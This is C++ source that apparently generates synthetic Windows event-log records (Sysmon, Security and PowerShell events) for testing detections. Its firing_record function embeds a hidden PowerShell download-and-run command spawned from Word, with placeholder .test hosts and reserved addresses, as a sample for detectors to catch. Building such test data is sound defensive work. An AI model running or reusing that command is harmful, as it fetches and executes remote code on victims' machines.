#include "konseki/scenario/windows_events.h"

#include "kinds.h"
#include "moment.h"

namespace konseki::scenario::evtx {

namespace {
constexpr const char* process_guid = "{747f3d96-e51b-6139-0000-0010b8a50300}";
constexpr const char* parent_guid = "{747f3d96-d8e8-6138-0000-00108f2a0200}";

std::string hex(std::uint64_t seed, std::size_t digits) {
    std::string out;
    while (out.size() < digits) {
        seed = seed * 6364136223846793005u + 1442695040888963407u;
        out.push_back("0123456789ABCDEF"[seed >> 60]);
    }
    return out;
}
std::string plain_hex(std::uint64_t number) {
    std::string out(1, "0123456789abcdef"[number & 0xf]);
    while ((number >>= 4) != 0) out.insert(out.begin(), "0123456789abcdef"[number & 0xf]);
    return out;
}
std::string hashes_of(std::uint64_t n) {
    return "MD5=" + hex(n * 3 + 1, 32) + ",SHA256=" + hex(n * 3 + 2, 64) +
           ",IMPHASH=" + hex(n * 3 + 3, 32);
}
}  // namespace

Record WindowsHost::sysmon_process_create(const Occasion& occasion, const ProcessCreate& process) {
    const std::string hashes =
        process.hashes.empty() ? hashes_of(occasion.record_id) : process.hashes;
    return event(sysmon(1, 5), occasion,
                 {{"RuleName", value::string("-")},
                  {"UtcTime", value::string(utc_text(occasion.time))},
                  {"ProcessGuid", value::guid(process_guid)},
                  {"ProcessId", value::uint32(process.process_id)},
                  {"Image", value::string(process.image)},
                  {"FileVersion", value::string("10.0.19041.746 (WinBuild.160101.0800)")},
                  {"Description", value::string("Windows コマンド プロセッサ")},
                  {"Product", value::string("Microsoft® Windows® Operating System")},
                  {"Company", value::string("Microsoft Corporation")},
                  {"OriginalFileName", value::string(process.original_file_name)},
                  {"CommandLine", value::string(process.command_line)},
                  {"CurrentDirectory", value::string(process.current_directory)},
                  {"User", value::string(process.user)},
                  {"LogonGuid", value::guid("{747f3d96-d8e7-6138-0000-00207f3e0100}")},
                  {"LogonId", value::hex64(0x13e7f)},
                  {"TerminalSessionId", value::uint32(1)},
                  {"IntegrityLevel", value::string("High")},
                  {"Hashes", value::string(hashes)},
                  {"ParentProcessGuid", value::guid(parent_guid)},
                  {"ParentProcessId", value::uint32(process.parent_process_id)},
                  {"ParentImage", value::string(process.parent_image)},
                  {"ParentCommandLine", value::string(process.parent_command_line)},
                  {"ParentUser", value::string(process.user)}});
}

Record WindowsHost::sysmon_network(const Occasion& occasion, const std::string& image,
                                   const std::string& user, const std::string& address,
                                   const std::string& host_name, std::uint16_t port) {
    return event(
        sysmon(3, 5), occasion,
        {{"RuleName", value::string("-")},
         {"UtcTime", value::string(utc_text(occasion.time))},
         {"ProcessGuid", value::guid(process_guid)},
         {"ProcessId", value::uint32(4711)},
         {"Image", value::string(image)},
         {"User", value::string(user)},
         {"Protocol", value::string("tcp")},
         {"Initiated", value::boolean(1)},
         {"SourceIsIpv6", value::boolean(0)},
         {"SourceIp", value::string("192.0.2.17")},
         {"SourceHostname", value::string(computer_)},
         {"SourcePort", value::uint16(49'823)},
         {"SourcePortName", value::string("-")},
         {"DestinationIsIpv6", value::boolean(address.find(':') == std::string::npos ? 0 : 1)},
         {"DestinationIp", value::string(address)},
         {"DestinationHostname", value::string(host_name)},
         {"DestinationPort", value::uint16(port)},
         {"DestinationPortName", value::string(port == 443 ? "https" : "-")}});
}

Record WindowsHost::sysmon_dns(const Occasion& occasion, const std::string& image,
                               const std::string& name, const std::string& results) {
    return event(sysmon(22, 5), occasion,
                 {{"RuleName", value::string("-")},
                  {"UtcTime", value::string(utc_text(occasion.time))},
                  {"ProcessGuid", value::guid(process_guid)},
                  {"ProcessId", value::uint32(4711)},
                  {"QueryName", value::string(name)},
                  {"QueryStatus", value::string("0")},
                  {"QueryResults", value::string(results)},
                  {"Image", value::string(image)},
                  {"User", value::string("EXAMPLE\\佐藤")}});
}

Record WindowsHost::security_4688(const Occasion& occasion, const ProcessCreate& process) {
    Occasion quiet = occasion;
    quiet.user_sid.clear();
    return event(security_auditing(4688, 13'312, 2, true), quiet,
                 {{"SubjectUserSid", value::sid("S-1-5-21-1004336348-1177238915-682003330-1105")},
                  {"SubjectUserName", value::string("佐藤")},
                  {"SubjectDomainName", value::string("EXAMPLE")},
                  {"SubjectLogonId", value::hex64(0x3e7f1)},
                  {"NewProcessId", value::raw(Type::hex64, value::hex64(process.process_id).bytes)},
                  {"NewProcessName", value::string(process.image)},
                  {"TokenElevationType", value::string("%%1937")},
                  {"ProcessId", value::hex64(process.parent_process_id)},
                  {"CommandLine", value::string(process.command_line)},
                  {"TargetUserSid", value::sid("S-1-0-0")},
                  {"TargetUserName", value::string("-")},
                  {"TargetDomainName", value::string("-")},
                  {"TargetLogonId", value::hex64(0)},
                  {"ParentProcessName", value::string(process.parent_image)},
                  {"MandatoryLabel", value::sid("S-1-16-12288")}});
}

Record WindowsHost::security_4624(const Occasion& occasion, const Logon& logon) {
    Occasion quiet = occasion;
    quiet.user_sid.clear();
    return event(security_auditing(4624, 12'544, 2, true), quiet,
                 {{"SubjectUserSid", value::sid("S-1-0-0")},
                  {"SubjectUserName", value::string("-")},
                  {"SubjectDomainName", value::string("-")},
                  {"SubjectLogonId", value::hex64(0)},
                  {"TargetUserSid", value::sid("S-1-5-21-1004336348-1177238915-682003330-1105")},
                  {"TargetUserName", value::string(logon.user)},
                  {"TargetDomainName", value::string(logon.domain)},
                  {"TargetLogonId", value::hex64(logon.logon_id)},
                  {"LogonType", value::uint32(logon.type)},
                  {"LogonProcessName", value::string("NtLmSsp ")},
                  {"AuthenticationPackageName", value::string("NTLM")},
                  {"WorkstationName", value::string(logon.workstation)},
                  {"LogonGuid", value::guid("{00000000-0000-0000-0000-000000000000}")},
                  {"TransmittedServices", value::string("-")},
                  {"LmPackageName", value::string("NTLM V2")},
                  {"KeyLength", value::uint32(128)},
                  {"ProcessId", value::hex64(0)},
                  {"ProcessName", value::string("-")},
                  {"IpAddress", value::string(logon.address)},
                  {"IpPort", value::string("49823")},
                  {"ImpersonationLevel", value::string("%%1833")},
                  {"RestrictedAdminMode", value::string("-")},
                  {"TargetOutboundUserName", value::string("-")},
                  {"TargetOutboundDomainName", value::string("-")},
                  {"VirtualAccount", value::string("%%1843")},
                  {"TargetLinkedLogonId", value::hex64(0)},
                  {"ElevatedToken", value::string("%%1842")}});
}

Record WindowsHost::service_installed_7045(const Occasion& occasion, const Service& service) {
    return event(service_manager(7045), occasion,
                 {{"ServiceName", value::string(service.name)},
                  {"ImagePath", value::string(service.image_path)},
                  {"ServiceType", value::string(service.service_type)},
                  {"StartType", value::string(service.start_type)},
                  {"AccountName", value::string(service.account)}});
}

Record WindowsHost::powershell_4104(const Occasion& occasion, const std::string& script,
                                    const std::string& path) {
    return event(script_block_logged(5), occasion,
                 {{"MessageNumber", value::int32(1)},
                  {"MessageTotal", value::int32(1)},
                  {"ScriptBlockText", value::string(script)},
                  {"ScriptBlockId", value::string("8a7f3d96-e51b-4139-9c00-b8a503000017")},
                  {"Path", value::string(path)}});
}

Record WindowsHost::log_cleared_1102(const Occasion& occasion, const std::string& user) {
    Occasion quiet = occasion;
    quiet.user_sid.clear();
    return user_data(
        log_cleared(1102), quiet, "LogFileCleared", event_log_space,
        {{"SubjectUserSid", value::sid("S-1-5-21-1004336348-1177238915-682003330-1105")},
         {"SubjectUserName", value::string(user)},
         {"SubjectDomainName", value::string("EXAMPLE")},
         {"SubjectLogonId", value::hex64(0x3e7f1)}});
}

Record firing_record(WindowsHost& host, std::uint64_t n) {
    const std::string number = std::to_string(n);
    // 198.18.0.0/15 and 2001:db8::/32 are set aside for tests (RFC 2544, RFC 3849).
    const std::string address = "198." + std::to_string(18 + (n >> 16) % 2) + '.' +
                                std::to_string(n >> 8 & 0xff) + '.' + std::to_string(n & 0xff);
    const std::string address6 =
        "2001:db8::" + plain_hex(n >> 16 & 0xffff) + ':' + plain_hex(n & 0xffff);
    const std::string url = "http://h" + number + ".d" + number + ".test/" + hex(n, 12) + ".ps1";
    ProcessCreate process;
    process.image = R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";
    process.original_file_name = "PowerShell.EXE";
    process.parent_image = R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)";
    process.command_line =
        "powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -c \"whoami /priv; IEX (New-Object "
        "Net.WebClient).DownloadString('" +
        url + "') # " + address + ' ' + address6 + " 件名" + number + '"';
    process.hashes = hashes_of(n + 0x10000000000);
    process.process_id = static_cast<std::uint32_t>(1000 + n * 4 % 60'000);
    Occasion occasion;
    occasion.record_id = n + 1;
    occasion.time += n * 10'000'000 / 20;
    return host.sysmon_process_create(occasion, process);
}

}  // namespace konseki::scenario::evtx
